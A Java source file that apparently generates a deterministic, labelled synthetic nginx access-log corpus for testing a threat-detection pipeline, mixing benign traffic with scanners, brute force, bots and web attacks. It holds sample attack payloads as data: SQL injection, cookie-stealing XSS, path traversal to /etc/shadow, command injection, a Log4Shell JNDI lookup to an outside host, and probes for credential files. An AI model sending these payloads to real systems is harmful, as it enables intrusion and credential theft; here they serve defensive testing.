package dev.threatip.flink;

import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;

/**
 * A labelled access-log corpus in the manner of {@code ../shared/bench/gen_corpus.py}: benign
 * visitors (Zipf-like popularity, browsers, a few 404s), good crawlers, a dispersed login attack
 * of many addresses with one or two failures each, and malicious clients of five kinds (scanner,
 * brute force, web attack, malicious bot, and "known bad but quiet" that only intel can flag),
 * as nginx combined lines over a span of event time. Deterministic per seed.
 *
 * @param lines     the log lines, in event-time order
 * @param malicious each planted malicious address and its kind
 * @param dispersed the addresses of the dispersed login attack
 * @param listed    the addresses a test feed should list (every quiet one and every third other)
 */
record LabelledCorpus(List<String> lines, Map<String, String> malicious, List<String> dispersed, List<String> listed) {
    static final String[] BROWSERS = {
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
        "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    };
    static final String[] SCANNER_UAS = {"Mozilla/5.0 zgrab/0.x", "python-requests/2.31.0", "Go-http-client/1.1",
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"};
    static final String[] SCRAPER_UAS = {"Scrapy/2.11.0 (+https://scrapy.org)", "curl/8.5.0", "Wget/1.21.4"};
    static final String[] PAGES = {"/", "/products", "/products/%d", "/cart", "/search?q=shoes", "/blog/%d", "/about",
        "/api/v1/items/%d", "/checkout", "/help/faq"};
    static final String[] STATIC = {"/static/app.%d.js", "/img/p%d.webp", "/favicon.ico"};
    static final String[] PROBES = {"/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/index.php", "/admin/.env",
        "/config.php.bak", "/server-status", "/actuator/env", "/.aws/credentials", "/backup.zip", "/db.sql", "/.svn/entries"};
    static final String[][] ATTACKS = {
        {"/products?id=1%27%20OR%20%271%27=%271", "/search?q=1%20UNION%20SELECT%20username,password%20FROM%20users--"},
        {"/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/blog/1?c=javascript:alert(document.cookie)"},
        {"/static/../../../../etc/passwd", "/download?file=..%2F..%2F..%2Fetc%2Fshadow"},
        {"/index.php?cmd=;cat%20/etc/passwd", "/api?q=${jndi:ldap://198.51.100.7/a}"},
    };
    static final String[] KINDS = {"scanner", "bruteforce", "web_attack", "malicious_bot", "known_bad_quiet"};
    static final long START = Instant.parse("2026-11-01T00:00:00Z").toEpochMilli();
    private static final DateTimeFormatter CLF = DateTimeFormatter.ofPattern("dd/MMM/yyyy:HH:mm:ss Z", Locale.ROOT)
            .withZone(ZoneOffset.UTC);

    /** {@code count} lines over {@code hours} of event time. */
    static LabelledCorpus generate(int count, double hours, long seed) {
        Random r = new Random(seed);
        int benignCount = Math.max(50, count / 40);
        String[] benign = new String[benignCount];
        double[] cum = new double[benignCount];
        double acc = 0;
        for (int i = 0; i < benignCount; i++) {
            benign[i] = publicIpv4(r);
            acc += 1.0 / Math.pow(i + 1, 0.9);
            cum[i] = acc;
        }
        Map<String, String> bad = new LinkedHashMap<>();
        List<String> listed = new ArrayList<>();
        int badCount = Math.max(20, count / 2000);
        for (int i = 0; i < badCount; i++) {
            String ip = publicIpv4(r);
            String kind = KINDS[i % KINDS.length];
            bad.put(ip, kind);
            if (kind.equals("known_bad_quiet") || i % 3 == 0) {
                listed.add(ip);
            }
        }
        List<String> badIps = new ArrayList<>(bad.keySet());
        List<String> dispersed = new ArrayList<>();
        for (int i = 0; i < Math.max(30, count / 5000); i++) {
            dispersed.add(publicIpv4(r));
        }
        List<String> out = new ArrayList<>(count);
        double t = START;
        double step = hours * 3_600_000 / count;
        while (out.size() < count) {
            double x = r.nextDouble();
            if (x < 0.955) {
                double pick = r.nextDouble() * acc;
                int i = 0;
                while (cum[i] < pick) {
                    i++;
                }
                String ua = BROWSERS[Math.floorMod(benign[i].hashCode(), BROWSERS.length)];
                for (int k = 1 + r.nextInt(4); k > 0; k--) {
                    t += -Math.log(1 - r.nextDouble()) * step;
                    if (r.nextDouble() < 0.55) {
                        out.add(line(benign[i], t, "GET", fill(r, STATIC[r.nextInt(STATIC.length)]), r.nextInt(4) == 0 ? 304 : 200, ua));
                    } else {
                        out.add(line(benign[i], t, "GET", fill(r, PAGES[r.nextInt(PAGES.length)]), r.nextInt(33) == 0 ? 404 : 200, ua));
                    }
                }
            } else if (x < 0.965) {
                t += -Math.log(1 - r.nextDouble()) * step;
                out.add(line("66.249.66." + (1 + r.nextInt(39)), t, "GET", fill(r, PAGES[r.nextInt(PAGES.length)]), 200,
                        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"));
            } else if (x < 0.972) {
                t += -Math.log(1 - r.nextDouble()) * step;
                out.add(line(dispersed.get(r.nextInt(dispersed.size())), t, "POST", "/api/login", 401, BROWSERS[r.nextInt(BROWSERS.length)]));
            } else {
                String ip = badIps.get(r.nextInt(badIps.size()));
                switch (bad.get(ip)) {
                    case "scanner" -> {
                        List<String> probes = new ArrayList<>(List.of(PROBES));
                        java.util.Collections.shuffle(probes, r);
                        for (String p : probes.subList(0, 3 + r.nextInt(6))) {
                            t += -Math.log(1 - r.nextDouble()) * step;
                            out.add(line(ip, t, "GET", p, r.nextInt(4) == 0 ? 403 : 404, SCANNER_UAS[r.nextInt(SCANNER_UAS.length)]));
                        }
                    }
                    case "bruteforce" -> {
                        for (int k = 5 + r.nextInt(11); k > 0; k--) {
                            t += -Math.log(1 - r.nextDouble()) * step;
                            out.add(line(ip, t, "POST", "/api/login", r.nextInt(13) == 0 ? 200 : 401, BROWSERS[r.nextInt(BROWSERS.length)]));
                        }
                    }
                    case "web_attack" -> {
                        String[] fam = ATTACKS[r.nextInt(ATTACKS.length)];
                        for (String p : fam) {
                            t += -Math.log(1 - r.nextDouble()) * step;
                            out.add(line(ip, t, "GET", p, new int[] {200, 400, 403, 500}[r.nextInt(4)], BROWSERS[r.nextInt(BROWSERS.length)]));
                        }
                    }
                    case "malicious_bot" -> {
                        String ua = SCRAPER_UAS[r.nextInt(SCRAPER_UAS.length)];
                        for (int k = 10 + r.nextInt(21); k > 0; k--) {
                            t += -Math.log(1 - r.nextDouble()) * step;
                            out.add(line(ip, t, "GET", fill(r, PAGES[2 + r.nextInt(4)]), 200, ua));
                        }
                    }
                    default -> {
                        t += -Math.log(1 - r.nextDouble()) * step;
                        out.add(line(ip, t, "GET", fill(r, PAGES[r.nextInt(PAGES.length)]), 200, BROWSERS[r.nextInt(BROWSERS.length)]));
                    }
                }
            }
        }
        return new LabelledCorpus(List.copyOf(out.subList(0, count)), bad, dispersed, listed);
    }

    /** One nginx combined line. */
    static String line(String ip, double millis, String method, String path, int status, String ua) {
        return ip + " - - [" + CLF.format(Instant.ofEpochMilli((long) millis)) + "] \"" + method + " " + path
                + " HTTP/1.1\" " + status + " " + (200 + (path.length() * 37) % 4000) + " \"https://shop.example.com/\" \"" + ua + "\"";
    }

    private static String fill(Random r, String template) {
        return template.contains("%d") ? String.format(Locale.ROOT, template, 1 + r.nextInt(5000)) : template;
    }

    /** A random global unicast IPv4 address outside special-purpose space. */
    static String publicIpv4(Random r) {
        while (true) {
            int a = 1 + r.nextInt(223);
            if (a == 10 || a == 127 || a == 100 || a == 169 || a == 172 || a == 192 || a == 198 || a == 203 || a == 66) {
                continue;
            }
            return a + "." + r.nextInt(256) + "." + r.nextInt(256) + "." + (1 + r.nextInt(254));
        }
    }
}
